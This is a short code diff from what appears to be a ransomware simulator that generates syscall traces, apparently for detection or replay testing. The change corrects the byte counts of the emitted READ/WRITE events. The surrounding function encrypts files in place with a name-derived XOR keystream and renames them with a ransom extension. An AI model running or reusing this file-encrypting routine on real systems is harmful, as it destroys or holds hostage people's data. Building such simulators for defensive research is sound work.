@@ -110,10 +110,15 @@ def run_file_attack(
         data = np.frombuffer(p.read_bytes(), np.uint8)
         key = hashlib.sha256(p.name.encode()).digest()
         enc = data ^ _keystream(key, len(data))
-        nchunks = max(1, len(data) // cfg.chunk_bytes)
-        for _ in range(nchunks):
-            emit(Syscall.READ, p, nbytes=cfg.chunk_bytes)
-            emit(Syscall.WRITE, p, nbytes=cfg.chunk_bytes)
+        # record the true byte counts (what a kernel capture reports): the
+        # final chunk is partial, and the replay gate reproduces file sizes
+        # from exactly these numbers
+        remaining = len(data)
+        while remaining > 0:
+            n = min(cfg.chunk_bytes, remaining)
+            emit(Syscall.READ, p, nbytes=n)
+            emit(Syscall.WRITE, p, nbytes=n)
+            remaining -= n
         dst = p.with_suffix(p.suffix + cfg.ransom_ext)
         p.write_bytes(enc.tobytes())
         p.rename(dst)
